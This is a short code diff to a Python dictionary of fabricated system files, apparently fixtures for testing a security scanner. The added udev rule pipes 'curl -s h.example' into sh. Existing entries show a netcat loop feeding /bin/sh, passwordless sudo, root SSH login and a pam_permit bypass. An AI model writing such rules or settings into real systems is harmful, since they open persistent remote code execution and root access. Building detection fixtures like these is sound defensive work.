@@ -125,6 +125,8 @@ MADE = {
     "sshd_config": b"Port 22\nPermitRootLogin yes\nMatch User x\nPasswordAuthentication no\n",
     "etc/sudoers": b"root ALL=(ALL) ALL\nhelp ALL=(ALL) NOPASSWD: ALL\n%wheel ALL=(ALL) ALL\n",
     "etc/pam.d/login": b"auth sufficient pam_permit.so\nauth required pam_unix.so nullok\n",
+    "etc/ssl/certs/a.pem": b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
+    "etc/udev/rules.d/9.rules": b'ACTION=="add", RUN+="/bin/sh -c \'curl -s h.example | sh\'"\n',
     "etc/hosts": b"127.0.0.1 localhost\n192.0.2.7 updates.vendor.example\n",
     "functions": b'relay() {\n  while :; do nc -l -p 9 < "$p" | /bin/sh > "$p"; done\n}\n',
     "opkg.conf": b"src/gz a http://a.example/p\noption check_signature\n",
